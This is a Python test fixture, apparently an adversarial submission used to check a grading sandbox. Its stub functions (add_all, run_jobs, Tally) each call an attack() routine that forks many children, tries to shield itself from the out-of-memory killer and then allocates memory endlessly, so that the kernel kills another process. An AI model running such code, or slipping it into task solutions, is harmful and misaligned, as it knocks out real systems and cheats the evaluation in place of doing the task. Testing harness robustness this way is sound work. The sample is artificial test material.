# expect: no case beyond those honestly solved may pass
# honest = []
"""Lets many children allocate memory, so that the kernel picks the victim."""

import os


def attack():
    hoard = []
    for _ in range(20):
        try:
            if os.fork() == 0:
                break
        except OSError:
            break
    try:
        with open("/proc/self/oom_score_adj", "w") as file:
            file.write("-1000")
    except OSError:
        pass
    while True:
        hoard.append(bytearray(b"x") * (1 << 22))


def add_all(numbers):
    return attack()


def run_jobs(jobs, work):
    return attack()


class Tally:
    def add(self, name, n=1):
        attack()

    def count(self, name):
        return attack()

    @property
    def total(self):
        return attack()
